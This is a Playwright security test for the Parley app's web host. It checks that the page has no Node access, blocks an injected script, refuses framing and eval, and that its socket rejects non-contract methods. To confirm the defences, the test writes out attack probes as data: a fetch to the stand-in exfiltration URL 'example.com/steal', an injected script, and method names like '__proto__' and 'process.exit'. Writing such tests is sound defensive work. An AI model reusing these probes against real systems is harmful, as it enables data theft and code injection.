// The window's hardening at runtime, in the web host (the Electron equivalent is test/e2e/electron.spec.ts,
// which runs where an Electron binary exists): no Node in the page, no inline or eval'd script, no request
// to any origin but Parley's own (the policy refuses eval too), the page cannot be framed, and the socket answers only contract methods.
import { methodNames } from '../../preload/contract';
import { expect, test } from '../e2e/fixtures';

test('the page has no Node, runs no injected script, reaches no other origin and answers only the contract', async ({ app, appPage: page }) => {
  await expect(page.getByRole('navigation', { name: 'Main' })).toBeVisible();
  const violations: string[] = [];
  page.on('console', (m) => {
    if (/Content Security Policy/i.test(m.text())) violations.push(m.text());
  });
  const surface = await page.evaluate(async () => {
    const g = globalThis as unknown as Record<string, unknown> & {
      fetch: (u: string) => Promise<unknown>;
      document: { createElement(t: string): { textContent: string }; head: { appendChild(n: unknown): void } };
    };
    const s = g.document.createElement('script');
    s.textContent = 'globalThis.__inlineRan = true';
    g.document.head.appendChild(s);
    let fetched = 'blocked';
    try {
      await g.fetch('https://example.com/steal');
      fetched = 'sent';
    } catch {
      fetched = 'blocked';
    }
    return { require: typeof g.require, process: typeof g.process, module: typeof g.module, Buffer: typeof g.Buffer, inlineRan: g.__inlineRan === true, fetched };
  });
  expect(surface).toEqual({ require: 'undefined', process: 'undefined', module: 'undefined', Buffer: 'undefined', inlineRan: false, fetched: 'blocked' });
  expect(violations.length).toBeGreaterThan(0);

  // The page refuses to be framed by another site (clickjacking).
  const res = await page.request.get(`http://127.0.0.1:${new URL(page.url()).port}/`);
  expect(res.headers()['x-frame-options']).toBe('DENY');
  // eval is refused by the same policy (no 'unsafe-eval'); DevTools-driven evaluate bypasses that check, so the header says it.
  const csp = res.headers()['content-security-policy']!;
  expect(csp).toMatch(/script-src 'self'(;|$)/);
  expect(csp).not.toMatch(/unsafe-eval|unsafe-inline'[^;]*script/);

  // Over the socket only the contract's methods exist: anything else is unknown_method, and a real method answers.
  const answers = await page.evaluate(
    async ({ token, names }) => {
      const g = globalThis as unknown as { WebSocket: new (u: string) => { onopen: () => void; onmessage: (e: { data: string }) => void; send(s: string): void; close(): void }; location: { host: string } };
      const ws = new g.WebSocket(`ws://${g.location.host}/ws?token=${token}`);
      // An array, not an object: a '__proto__' key would set the prototype instead of an entry.
      const out: Array<[string, string]> = [];
      const asks = ['__proto__', 'constructor', 'engine.close', 'process.exit', 'require', names[0]!];
      await new Promise<void>((resolve) => {
        ws.onmessage = (e) => {
          const m = JSON.parse(e.data) as { id?: number; result?: { ok: boolean; error?: { code: string } } };
          if (typeof m.id !== 'number') return;
          out.push([asks[m.id]!, m.result?.ok ? 'ok' : (m.result?.error?.code ?? '?')]);
          if (out.length === asks.length) resolve();
        };
        ws.onopen = () => asks.forEach((method, id) => ws.send(JSON.stringify({ id, method, input: {} })));
      });
      ws.close();
      return out.sort((a, b) => (a[0] < b[0] ? -1 : 1));
    },
    { token: app.token, names: ['app.info'] },
  );
  expect(answers).toEqual([
    ['__proto__', 'unknown_method'],
    ['app.info', 'ok'],
    ['constructor', 'unknown_method'],
    ['engine.close', 'unknown_method'],
    ['process.exit', 'unknown_method'],
    ['require', 'unknown_method'],
  ]);
  expect(methodNames).toContain('app.info');
});
